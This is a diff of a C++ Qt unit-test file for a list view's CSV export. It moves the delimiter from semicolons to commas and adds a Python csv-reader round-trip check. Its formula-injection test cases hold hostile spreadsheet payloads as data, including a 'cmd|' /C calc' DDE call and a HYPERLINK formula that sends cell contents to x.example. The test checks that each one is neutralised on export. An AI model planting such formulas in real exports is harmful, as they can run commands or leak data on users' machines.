@@ -33,11 +33,13 @@
 #include <QFileDialog>
 #include <QFileInfo>
 #include <QHeaderView>
+#include <QJsonDocument>
 #include <QLabel>
 #include <QLineEdit>
 #include <QMenu>
 #include <QMessageBox>
 #include <QPlainTextEdit>
+#include <QProcess>
 #include <QPushButton>
 #include <QSignalSpy>
 #include <QTableWidget>
@@ -300,7 +302,7 @@ TEST_F(ServiciosSql, anAmountColumnShowsAsMoneyOnlyNumbers)
                  " ('F-1', 'Texto', 'V1', '$9,999,999.00'), ('F-2', 'Cifra', 'V1', '1234.5')");
     ASSERT_TRUE(
         funciones.LlenaLista("SELECT Op_Folio, Op_Monto AS \"Monto\" FROM Oportunidad ORDER BY Op_Folio", lista, -1));
-    EXPECT_EQ(textoCsv(lista), "Op_Folio;Monto\r\nF-1;\u26A0 $9,999,999.00\r\nF-2;$1,234.50\r\n");
+    EXPECT_EQ(textoCsv(lista), "Op_Folio,Monto\r\nF-1,\"\u26A0 $9,999,999.00\"\r\nF-2,\"$1,234.50\"\r\n");
 }
 
 // Whatever changed, a refill shows what a fresh fill shows: a few rows changed in place (also
@@ -586,7 +588,7 @@ TEST(AccionesLista, theCsvCarriesNoFormulasAndFittingShrinksOnlyTextColumnsToThe
         {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
         {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
         {"\t=1+1", "'\t=1+1"},
-        {"-$1,2+cmd|' /C calc'!A0", "'-$1,2+cmd|' /C calc'!A0"},
+        {"-$1,2+cmd|' /C calc'!A0", "\"'-$1,2+cmd|' /C calc'!A0\""},
         {"-", "'-"},
         {"=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")",
          "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\""},
@@ -598,13 +600,14 @@ TEST(AccionesLista, theCsvCarriesNoFormulasAndFittingShrinksOnlyTextColumnsToThe
         {"línea 1\nlínea 2", "\"línea 1\nlínea 2\""},
         {"fin\r", "\"fin\r\""},
         {"dice \"sí\"", "\"dice \"\"sí\"\"\""},
-        {"a;b", "\"a;b\""},
+        {"a;b", "a;b"},
+        {"a,b", "\"a,b\""},
         {"-1234.50", "-1234.50"},
-        {"-$1,234.50", "-$1,234.50"},
+        {"-$1,234.50", "\"-$1,234.50\""},
         {"+7", "+7"},
         {"a=b", "a=b"},
-        {"Pérez, Ana", "Pérez, Ana"},
-        {"1,-5, -$2.50", "1,-5, -$2.50"},
+        {"Pérez, Ana", "\"Pérez, Ana\""},
+        {"1,-5, -$2.50", "\"1,-5, -$2.50\""},
         {larga, larga},
     };
     for (const auto &[celda, exportada] : casos) {
@@ -880,17 +883,31 @@ TEST_F(MenuDeLista, eachViewKeepsTheUsersLayoutAndExportingToCsvSavesTheFileInUt
     QFile archivo(ruta);
     ASSERT_TRUE(archivo.open(QIODevice::ReadOnly));
     EXPECT_EQ(archivo.readAll(), "\xEF\xBB\xBF"
-                                 "Folio;Descripción;Monto\r\n"
-                                 "F-2;\"Dice \"\"sí\"\"\";30.00\r\n"
-                                 "F-3;\"Línea\nnueva\tcon tab\";20.00\r\n"
-                                 "F-1;\"Uno; dos\";10.00\r\n");
+                                 "Folio,Descripción,Monto\r\n"
+                                 "F-2,\"Dice \"\"sí\"\"\",30.00\r\n"
+                                 "F-3,\"Línea\nnueva\tcon tab\",20.00\r\n"
+                                 "F-1,Uno; dos,10.00\r\n");
+    // As a program that splits at commas and honours quotes reads it: the cells as shown.
+    QProcess python;
+    python.start("python3", {"-c",
+                             "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], "
+                             "encoding='utf-8-sig', newline='')))))",
+                             ruta});
+    ASSERT_TRUE(python.waitForFinished(30000));
+    QList<QStringList> celdas;
+    for (const QVariant &fila : QJsonDocument::fromJson(python.readAllStandardOutput()).toVariant().toList())
+        celdas << fila.toStringList();
+    EXPECT_EQ(celdas, (QList<QStringList>{{"Folio", "Descripción", "Monto"},
+                                          {"F-2", "Dice \"sí\"", "30.00"},
+                                          {"F-3", "Línea\nnueva\tcon tab", "20.00"},
+                                          {"F-1", "Uno; dos", "10.00"}}));
     EXPECT_EQ(textoTabulado(lista), "Folio\tDescripción\tMonto\n"
                                     "F-2\tDice \"sí\"\t30.00\n"
                                     "F-3\tLínea nueva con tab\t20.00\n"
                                     "F-1\tUno; dos\t10.00\n");
     lista.header()->moveSection(2, 0); // Monto first
     lista.header()->hideSection(1);    // no Descripción
-    EXPECT_EQ(textoCsv(lista), "Monto;Folio\r\n30.00;F-2\r\n20.00;F-3\r\n10.00;F-1\r\n");
+    EXPECT_EQ(textoCsv(lista), "Monto,Folio\r\n30.00,F-2\r\n20.00,F-3\r\n10.00,F-1\r\n");
 }
 
 // The table by state with its total, which the dialog copies; the chart, which tells its
